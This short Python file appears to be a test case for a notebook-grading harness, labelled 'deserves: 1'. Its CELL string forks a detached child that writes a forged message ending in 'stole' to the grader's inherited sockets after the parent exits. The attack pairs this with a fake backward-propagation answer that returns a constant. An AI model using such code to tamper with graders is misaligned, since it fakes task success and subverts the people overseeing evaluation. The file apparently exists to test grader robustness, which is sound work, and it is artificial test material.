"""Hands the runner's sockets to a child process, which talks on them when the parent is gone.

deserves: 1
"""

CELL = r"""
import os, socket, time
mine, childs = socket.socketpair()
links = {name: f"/proc/self/fd/{name}" for name in os.listdir("/proc/self/fd")}
numbers = [int(name) for name, link in links.items() if os.path.lexists(link) and "socket:" in os.readlink(link)]
if os.fork() == 0:
    os.setsid()
    for _ in range(20):
        time.sleep(0.2)
        for number in numbers:
            try:
                os.write(number, b"\x05\0\0\0\0\0\0\0stole")
            except OSError:
                pass
    os._exit(0)
"""

BACKWARD = """
def backward_propagation(x, theta): return 2.75
"""


def attack(work):
    work.answer_rightly("forward")
    work.add(CELL, before="backward")
    work.answer("backward", BACKWARD)
